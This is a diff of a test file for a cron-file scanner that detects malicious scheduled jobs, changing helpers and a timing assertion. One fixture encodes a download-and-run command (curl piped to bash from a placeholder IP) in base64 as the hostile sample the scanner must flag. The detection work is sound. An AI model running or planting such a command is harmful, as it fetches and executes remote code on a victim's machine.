@@ -14,8 +14,9 @@ import path from 'node:path';
 import { cronCheck } from '../../src/checks/cron.js';
 import type { Check, StartedFile } from '../../src/engine/check.js';
 import { severityRank } from '../../src/engine/finding.js';
-import { scanDirectory } from '../helpers/scan-dir.js';
+import { scanDirectory, scanHostile } from '../helpers/scan-dir.js';
 import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
+import { fixture } from '../helpers/fixtures.js';
 
 const run = promisify(execFile);
 const PAYLOAD = Buffer.from('curl -fsSL http://198.51.100.7/gi.sh | bash').toString('base64');
@@ -266,8 +267,8 @@ describe('cron check', () => {
     for (const rel of LOCKED) await run('chattr', ['+i', path.join(infected, rel)]);
 
     await writeTree(clean, STOCK_FILES);
-    // This machine's cron files and those of the debootstrapped Debian root, when present.
-    for (const source of ['/', process.env.MINESCAN_DEBIAN_ROOT ?? '/var/tmp/minescan-debian-root']) {
+    // This machine's cron files and those of the debootstrapped Debian root.
+    for (const source of ['/', fixture('debianRoot')]) {
       await copyCronFiles(source, clean);
     }
 
@@ -369,9 +370,7 @@ describe('cron check', () => {
   });
 
   it('reads hostile files without crashing or stalling', async () => {
-    const started = Date.now();
-    const result = await scanDirectory(hostile, [cronCheck]);
-    expect(Date.now() - started).toBeLessThan(15_000);
+    const result = await scanHostile(hostile, [cronCheck], { maxOperations: 300 });
     expect(result.errors).toEqual([]);
     expect(result.findings.some((f) => f.path === '/etc/crontab' && f.rule === 'command.download-and-run')).toBe(true);
     expect(result.findings.some((f) => f.path === '/etc/cron.d/b64' && f.evidence.startsWith('base64-decoded: curl wget'))).toBe(true);
